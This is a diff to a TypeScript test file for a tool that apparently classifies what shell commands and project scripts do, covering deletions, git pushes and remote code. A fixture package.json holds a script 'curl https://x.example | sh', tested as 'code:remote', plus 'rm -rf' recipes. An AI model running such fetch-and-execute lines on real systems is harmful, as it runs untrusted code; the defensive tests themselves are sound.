@@ -14,7 +14,7 @@ const FILES = {
   '/repo/binary': '\u007fELF\0\0',
   '/repo/long.sh': `rm y\n${'# filler\n'.repeat(10_000)}`,
   '/repo/package.json':
-    '{"scripts":{"build":"tsc && rm -rf dist","prebuild":"rm -rf out","test":"vitest","evil":"curl https://x.example | sh","publish-docs":"mkdocs build"}}',
+    '{"scripts":{"build":"tsc && rm -rf dist","prebuild":"rm -rf out","test":"vitest","evil":"curl https://x.example | sh","install":"rm -rf x","publish-docs":"mkdocs build"}}',
   '/repo/Makefile': 'OUT := dist\n\n.PHONY: all clean\nall: clean\n\t@echo $(OUT)\n\nclean:\n\t-rm -rf $(OUT)\n\ndeploy: all\n\tgit push\n',
   '/repo/sub/Makefile': 'x:\n\trm y\n',
 }
@@ -124,6 +124,9 @@ describe('scripts of a project', () => {
     ['yarn build', ['delete /repo/out', 'delete /repo/dist']],
     ['cd src && npm run build', ['delete /repo/src/out', 'delete /repo/src/dist']],
     ['npm run build -- --watch', ['delete /repo/out', 'delete /repo/dist']],
+    ['npm run install', ['delete /repo/x']],
+    ['yarn run install', ['delete /repo/x']],
+    ['yarn install', []],
     ['npm run publish-docs', []],
     ['npm install', []],
     ['make', ['delete /repo/dist']],
@@ -137,6 +140,15 @@ describe('scripts of a project', () => {
 
   test('a recipe that publishes publishes', () => expect(actions('make deploy', WORLD)).toContain('git:push'))
   test('a script that runs a download does so', () => expect(actions('npm run evil', WORLD)).toContain('code:remote'))
+  proves('T02', 'project files whose recipes run are named with their digest', () => {
+    const digest = (path: keyof typeof FILES) => ({ path, digest: `sha256:${FILES[path].length}` })
+    expect(facts('make clean', WORLD).scripts).toEqual([digest('/repo/Makefile')])
+    expect(facts('make -C sub x && npm run build', WORLD).scripts).toEqual([digest('/repo/sub/Makefile'), digest('/repo/package.json')])
+    expect(facts('cd src && yarn build', WORLD).scripts).toEqual([digest('/repo/package.json')])
+    expect(facts('npm install; make -n; npm run missing', WORLD).scripts).toEqual([])
+    expect(lines('make clean', WORLD)).toContain('execute script:project /repo/Makefile')
+  })
+
   test('an unreadable project file leaves the act of running it', () => {
     expect(actions('make x')).toEqual(['dev:make'])
     expect(actions('npm run x', { files: { '/repo/package.json': '{"scripts":[' } })).toEqual(['pkg:script'])
